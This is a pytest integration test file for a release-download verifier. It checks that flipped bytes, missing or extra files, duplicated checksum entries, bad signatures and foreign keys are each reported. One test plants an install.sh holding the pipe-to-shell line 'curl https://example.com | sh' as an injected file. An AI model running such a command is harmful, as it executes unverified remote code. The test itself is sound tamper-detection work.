"""Whatever is wrong with a download is named, before anything of it is opened."""

import shutil

import pytest

from release.seal import PUBLIC_KEY, SIGNATURE, SUMS
from tests.integration.release.download import BILL, VERSION, Download, flip_a_byte


@pytest.mark.timeout(600)
def test_one_flipped_byte_of_any_file_is_named(download: Download) -> None:
    for file in sorted(download.directory.iterdir()):
        if file.name in {SUMS, SIGNATURE}:
            continue  # they have their own test
        content = file.read_bytes()
        flip_a_byte(file)
        assert download.faults() == [
            f"{PUBLIC_KEY}: not the key in {download.keys.public(download.keys.ours)}"
            if file.name == PUBLIC_KEY
            else f"{file.name}: damaged, its SHA-256 is not the one in {SUMS}"
        ]
        file.write_bytes(content)


def test_a_missing_file_is_named(download: Download) -> None:
    for file in sorted(download.directory.iterdir()):
        content = file.read_bytes()
        file.unlink()
        [said] = download.faults()
        assert said.startswith(f"{file.name}: ")
        file.write_bytes(content)


def test_a_file_too_many_is_named(download: Download) -> None:
    (download / "install.sh").write_text("curl https://example.com | sh\n")

    assert download.faults() == [f"install.sh: not part of release {VERSION}"]

    download.seal()
    assert download.faults() == [f"install.sh: not part of release {VERSION}"]


def test_a_file_that_is_listed_twice_is_named(download: Download) -> None:
    listed = (download / SUMS).read_text()
    (download / SUMS).write_text(listed + f"{'0' * 64}  {BILL}\n")
    download.keys.sign(download / SUMS, download.keys.ours)

    assert f"{SUMS}: a line is no checksum, or a file is listed twice" in download.faults()


@pytest.mark.parametrize("name", [SUMS, SIGNATURE])
def test_one_flipped_byte_of_the_list_or_its_signature_is_named(
    download: Download, name: str
) -> None:
    flip_a_byte(download / name)

    [said] = download.faults()

    assert said.startswith(f"{SIGNATURE}: {SUMS} is not signed by the key in ")


def test_a_release_of_another_key_is_refused_whatever_key_it_brings_along(
    download: Download,
) -> None:
    foreign = download.keys.foreign
    shutil.copy(download.keys.public(foreign), download / PUBLIC_KEY)
    for package in download.directory.glob("*.rpm"):
        download.keys.sign_package(package, foreign)
    download.seal(foreign)

    [said] = download.faults()

    assert said.startswith(f"{SIGNATURE}: {SUMS} is not signed by the key in ")
    assert download.faults(key=foreign) == []


def test_a_key_that_does_not_belong_to_the_release_is_named(download: Download) -> None:
    shutil.copy(download.keys.public(download.keys.foreign), download / PUBLIC_KEY)
    download.seal()

    [said] = download.faults()

    assert said.startswith(f"{PUBLIC_KEY}: not the key in ")


def test_what_is_no_key_is_named(download: Download) -> None:
    assert download.faults(f"--key={download / BILL}") == [
        f"{download / BILL}: no armored public key"
    ]
